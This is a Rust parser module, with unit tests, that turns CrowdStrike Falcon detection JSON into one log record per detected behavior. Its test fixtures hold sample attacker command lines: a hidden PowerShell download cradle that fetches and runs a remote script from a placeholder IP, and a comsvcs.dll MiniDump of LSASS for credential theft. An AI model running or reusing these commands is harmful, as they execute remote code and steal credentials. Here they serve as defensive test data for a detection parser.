//! `falcon-detection`: a CrowdStrike Falcon detection (JSON), tagged
//! `falcon.detection`, one record per behavior with a `message` naming its
//! technique and tactic. Two shapes are read:
//!
//! - a detection summary of the detects API (`created_timestamp`, a
//!   `behaviors` list whose entries have `technique` and `tactic`);
//! - a Streaming API `DetectionSummaryEvent` (`metadata` and `event`), which
//!   describes one behavior itself, in `event.Technique` and `event.Tactic`.

use chrono::{DateTime, Utc};
use serde_json::{Map, Value};

use super::item::{Body, Item, Out, ParseError, as_text, describe};
use super::time;

const TAG: &str = "falcon.detection";

/// Streaming API event types that are detection summaries (`Epp…` is what
/// the endpoint alerts of newer Falcon consoles send in its place).
const STREAMED_DETECTIONS: &[&str] = &["DetectionSummaryEvent", "EppDetectionSummaryEvent"];

pub(super) fn parse<'a>(item: Item<'a>, out: &mut Out<'a>) -> Result<(), ParseError> {
    let detection = item.body.into_object("a Falcon detection")?;
    let timestamp = detection_time(&detection)?.or(item.timestamp);
    let record_of = |body: Map<String, Value>| Item {
        tag: Some(TAG.into()),
        timestamp,
        body: Body::Value(Value::Object(body)),
    };

    match detection.get("behaviors") {
        Some(Value::Array(behaviors)) if !behaviors.is_empty() => {
            // Collected aside so that a bad behavior leaves `out` as it was.
            let mut records = Vec::with_capacity(behaviors.len());
            for (i, behavior) in behaviors.iter().enumerate() {
                if !behavior.is_object() {
                    return Err(ParseError::new(format!(
                        "behaviors[{i}]: expected a behavior (a JSON object), got {}",
                        describe(behavior)
                    )));
                }
                let message = detected(behavior.get("technique"), behavior.get("tactic"));
                // The whole detection, `behaviors` included, so that each
                // record still tells what else was seen with its behavior.
                let mut record = detection.clone();
                record.insert("message".into(), Value::String(message));
                record.insert("behavior".into(), behavior.clone());
                records.push(record_of(record));
            }
            out.extend(records);
            return Ok(());
        }
        Some(Value::Array(_) | Value::Null) | None => {}
        Some(other) => {
            return Err(ParseError::new(format!(
                "behaviors: expected a list of behaviors, got {}",
                describe(other)
            )));
        }
    }

    // No behaviors list: a streamed summary (one behavior, in `event`), or a
    // detection without behaviors, still passed on once so that it is seen.
    let message = match streamed_event(&detection)? {
        Some(event) => detected(event.get("Technique"), event.get("Tactic")),
        None => "Detected (no behaviors)".to_string(),
    };
    let mut record = detection;
    record.insert("message".into(), Value::String(message));
    out.push(record_of(record));
    Ok(())
}

/// When the detection was created: `created_timestamp` (detects API; ISO
/// 8601, or epoch seconds or milliseconds), else `metadata.eventCreationTime`
/// (Streaming API; epoch milliseconds).
fn detection_time(detection: &Map<String, Value>) -> Result<Option<DateTime<Utc>>, ParseError> {
    if let Some(created) = detection.get("created_timestamp") {
        return time::from_field("created_timestamp", Some(created));
    }
    let metadata = detection.get("metadata");
    time::from_field(
        "metadata.eventCreationTime",
        metadata.and_then(|metadata| metadata.get("eventCreationTime")),
    )
}

/// The `event` of a Streaming API detection summary; other streamed event
/// types (e.g. `AuthActivityAuditEvent`) belong to the `falcon` parser.
fn streamed_event(detection: &Map<String, Value>) -> Result<Option<&Value>, ParseError> {
    let event_type = detection
        .get("metadata")
        .and_then(|metadata| metadata.get("eventType"));
    if let Some(event_type) = event_type {
        let name = event_type.as_str().unwrap_or_default();
        if !STREAMED_DETECTIONS.contains(&name) {
            return Err(ParseError::new(format!(
                "metadata.eventType: {event_type} is not a detection summary ({}); \
                 read other streamed events with the `falcon` format",
                STREAMED_DETECTIONS.join(" or ")
            )));
        }
    }
    Ok(detection.get("event").filter(|event| event.is_object()))
}

/// `Detected <technique> (<tactic>)`, `-` for a missing part.
fn detected(technique: Option<&Value>, tactic: Option<&Value>) -> String {
    format!(
        "Detected {} ({})",
        as_text(technique).as_deref().unwrap_or("-"),
        as_text(tactic).as_deref().unwrap_or("-")
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::format::testing::{self, item, object};
    use serde_json::json;

    // GET /detects/entities/summaries/GET/v1, one resource: a PowerShell
    // download cradle, then credential dumping from LSASS.
    const DETECTION: &str = r#"{"cid":"1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d","created_timestamp":"2026-11-22T08:15:30.434757473Z","detection_id":"ldt:5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0:12884905417","device":{"device_id":"5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0","cid":"1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d","hostname":"WS-042","platform_name":"Windows","os_version":"Windows 11","local_ip":"10.1.4.42","external_ip":"198.51.100.7","machine_domain":"corp.example.com"},"behaviors":[{"device_id":"5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0","timestamp":"2026-11-22T08:15:21Z","template_instance_id":"382","behavior_id":"10197","filename":"powershell.exe","filepath":"\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","alleged_filetype":"exe","cmdline":"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')\"","scenario":"suspicious_activity","objective":"Follow Through","tactic":"Execution","tactic_id":"TA0002","technique":"PowerShell","technique_id":"T1059.001","display_name":"PowerShellDownloadCradle","description":"A PowerShell script downloaded and ran content from a remote host.","severity":70,"confidence":80,"user_name":"alice","user_id":"S-1-5-21-1004336348-1177238915-682003330-1104","sha256":"de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c","parent_details":{"parent_cmdline":"C:\\Windows\\Explorer.EXE","parent_process_graph_id":"pid:5f4e:1188"},"pattern_disposition":0},{"device_id":"5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0","timestamp":"2026-11-22T08:15:29Z","behavior_id":"10340","filename":"rundll32.exe","cmdline":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Temp\\l.dmp full","scenario":"credential_theft","objective":"Gain Access","tactic":"Credential Access","tactic_id":"TA0006","technique":"OS Credential Dumping","technique_id":"T1003","display_name":"LsassDumpComsvcs","severity":90,"confidence":90,"user_name":"alice","pattern_disposition":2048}],"email_sent":true,"first_behavior":"2026-11-22T08:15:21Z","last_behavior":"2026-11-22T08:15:29Z","max_confidence":90,"max_severity":90,"max_severity_displayname":"Critical","show_in_ui":true,"status":"new","hostinfo":{"domain":"corp.example.com"},"seconds_to_triaged":0,"seconds_to_resolved":0}"#;

    // The same kind of detection as the Streaming API (SIEM connector) sends it.
    const STREAMED: &str = r#"{"metadata":{"customerIDString":"1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d","offset":2280573,"eventType":"DetectionSummaryEvent","eventCreationTime":1795335330123,"version":"1.0"},"event":{"ProcessStartTime":1795335321,"ProcessEndTime":0,"ProcessId":38684386611,"ParentProcessId":38683732731,"ComputerName":"WS-042","UserName":"alice","DetectName":"Suspicious Activity","DetectDescription":"A PowerShell script downloaded and ran content from a remote host.","Severity":4,"SeverityName":"High","FileName":"powershell.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0","CommandLine":"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')\"","SHA256String":"de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c","MD5String":"7353f60b1739074eb17c5f4dddefe239","MachineDomain":"corp.example.com","FalconHostLink":"https://falcon.crowdstrike.com/activity/detections/detail/5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0/38684386611","SensorId":"5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0","DetectId":"ldt:5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0:38684386611","LocalIP":"10.1.4.42","MACAddress":"00-15-5d-01-02-03","Tactic":"Execution","Technique":"PowerShell","Objective":"Follow Through","PatternDispositionDescription":"Detection, standard detection.","PatternDispositionValue":0}}"#;

    fn run(body: Body<'_>) -> Result<Vec<Item<'_>>, ParseError> {
        testing::run(parse, item(body))
    }

    #[test]
    fn emits_one_record_per_behavior() {
        let out = run(Body::Text(DETECTION.as_bytes())).unwrap();
        assert_eq!(out.len(), 2);
        for item in &out {
            assert_eq!(item.tag.as_deref(), Some("falcon.detection"));
            assert_eq!(
                item.timestamp.unwrap().to_rfc3339(),
                "2026-11-22T08:15:30.434757473+00:00"
            );
        }
        let messages: Vec<_> = out.iter().map(|item| &object(item)["message"]).collect();
        assert_eq!(
            messages,
            [
                "Detected PowerShell (Execution)",
                "Detected OS Credential Dumping (Credential Access)"
            ]
        );
        assert_eq!(object(&out[0])["behavior"]["behavior_id"], "10197");
        assert_eq!(object(&out[1])["behavior"]["technique_id"], "T1003");
    }

    #[test]
    fn each_record_is_the_detection_plus_message_and_behavior() {
        let out = run(Body::Json(DETECTION.as_bytes())).unwrap();
        let detection: Map<String, Value> = serde_json::from_str(DETECTION).unwrap();
        let mut expected = detection.clone();
        expected.insert(
            "message".into(),
            json!("Detected OS Credential Dumping (Credential Access)"),
        );
        expected.insert("behavior".into(), detection["behaviors"][1].clone());
        assert_eq!(object(&out[1]), &expected);
        assert_eq!(
            object(&out[0])["behavior"]["cmdline"],
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')\""
        );
    }

    #[test]
    fn reads_text_json_and_built_values_alike() {
        testing::assert_bodies_alike(parse, DETECTION);
    }

    #[test]
    fn a_streamed_summary_is_one_behavior() {
        let out = run(Body::Text(STREAMED.as_bytes())).unwrap();
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].tag.as_deref(), Some("falcon.detection"));
        assert_eq!(
            out[0].timestamp.unwrap().timestamp_millis(),
            1_795_335_330_123
        );
        let record = object(&out[0]);
        assert_eq!(record["message"], "Detected PowerShell (Execution)");
        assert!(record.get("behavior").is_none());
        assert_eq!(
            record["event"]["DetectId"],
            "ldt:5f4e3d2c1b0a49f8a7b6c5d4e3f2a1b0:38684386611"
        );

        let epp = br#"{"metadata":{"eventType":"EppDetectionSummaryEvent","eventCreationTime":1795335330123},"event":{"Technique":"Command and Scripting Interpreter","Tactic":"Execution","Severity":70}}"#;
        let out = run(Body::Text(epp)).unwrap();
        assert_eq!(
            object(&out[0])["message"],
            "Detected Command and Scripting Interpreter (Execution)"
        );
    }

    #[test]
    fn a_detection_without_behaviors_is_passed_on_once() {
        for line in [
            r#"{"detection_id":"ldt:abc:1","created_timestamp":"2026-11-22T08:15:30Z","behaviors":[],"status":"new"}"#,
            r#"{"detection_id":"ldt:abc:1","created_timestamp":"2026-11-22T08:15:30Z","behaviors":null,"status":"new"}"#,
            r#"{"detection_id":"ldt:abc:1","created_timestamp":"2026-11-22T08:15:30Z","status":"new"}"#,
        ] {
            let out = run(Body::Text(line.as_bytes())).unwrap();
            assert_eq!(out.len(), 1, "{line}");
            let record = object(&out[0]);
            assert_eq!(record["message"], "Detected (no behaviors)");
            assert!(record.get("behavior").is_none());
            assert_eq!(record["detection_id"], "ldt:abc:1");
            assert_eq!(
                out[0].timestamp.unwrap().to_rfc3339(),
                "2026-11-22T08:15:30+00:00"
            );
        }
    }

    #[test]
    fn missing_technique_or_tactic_is_a_dash() {
        let line = br#"{"created_timestamp":"2026-11-22T08:15:30Z","behaviors":[{"tactic":"Persistence"},{"technique":"Masquerading","tactic":""},{}]}"#;
        let out = run(Body::Text(line)).unwrap();
        let messages: Vec<_> = out.iter().map(|item| &object(item)["message"]).collect();
        assert_eq!(
            messages,
            [
                "Detected - (Persistence)",
                "Detected Masquerading (-)",
                "Detected - (-)"
            ]
        );
        let streamed = br#"{"metadata":{"eventType":"DetectionSummaryEvent"},"event":{"DetectName":"Machine Learning"}}"#;
        assert_eq!(
            object(&run(Body::Text(streamed)).unwrap()[0])["message"],
            "Detected - (-)"
        );
    }

    #[test]
    fn created_timestamp_may_be_epoch_seconds_or_millis() {
        let seconds = br#"{"created_timestamp":1795335330,"behaviors":[]}"#;
        let out = run(Body::Text(seconds)).unwrap();
        assert_eq!(
            out[0].timestamp.unwrap().to_rfc3339(),
            "2026-11-22T08:15:30+00:00"
        );
        let millis = br#"{"created_timestamp":"1795335330123","behaviors":[]}"#;
        let out = run(Body::Text(millis)).unwrap();
        assert_eq!(
            out[0].timestamp.unwrap().timestamp_millis(),
            1_795_335_330_123
        );
    }

    #[test]
    fn a_detection_without_time_keeps_the_earlier_timestamp() {
        let earlier = time::iso8601("2026-11-22T09:00:00Z").unwrap();
        let line = br#"{"behaviors":[{"technique":"Phishing","tactic":"Initial Access"}]}"#;
        let record = Item {
            timestamp: Some(earlier),
            ..item(Body::Text(line))
        };
        let out = testing::run(parse, record).unwrap();
        assert_eq!(out[0].timestamp, Some(earlier));
    }

    #[test]
    fn bad_detections_are_errors_naming_the_field() {
        let cases: &[(&str, &str)] = &[
            (
                r#"{"behaviors":{"technique":"PowerShell"}}"#,
                "behaviors: expected a list of behaviors, got an object",
            ),
            (
                r#"{"behaviors":[{"technique":"PowerShell"},"T1003"]}"#,
                "behaviors[1]: expected a behavior (a JSON object), got a string",
            ),
            (
                r#"{"created_timestamp":"last tuesday","behaviors":[]}"#,
                "created_timestamp: `last tuesday` is not an ISO 8601 time",
            ),
            (
                r#"{"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":false},"event":{}}"#,
                "metadata.eventCreationTime: false is not a time",
            ),
            (
                r#"{"metadata":{"eventType":"AuthActivityAuditEvent","eventCreationTime":1795335330123},"event":{"OperationName":"userAuthenticate"}}"#,
                "metadata.eventType: \"AuthActivityAuditEvent\" is not a detection summary",
            ),
            (
                r#"["ldt:abc:1"]"#,
                "expected a Falcon detection (a JSON object), got a list",
            ),
            (r#"{"behaviors":["#, "JSON: EOF"),
        ];
        for (line, expected) in cases {
            let err = run(Body::Text(line.as_bytes())).unwrap_err();
            assert!(err.to_string().starts_with(expected), "{line}: {err}");
        }
    }

    #[test]
    fn a_bad_behavior_leaves_out_untouched() {
        let mut out = vec![Item::text(b"earlier")];
        let line = br#"{"behaviors":[{"technique":"PowerShell","tactic":"Execution"},42]}"#;
        assert!(parse(Item::text(line), &mut out).is_err());
        assert_eq!(out, [Item::text(b"earlier")]);
    }
}
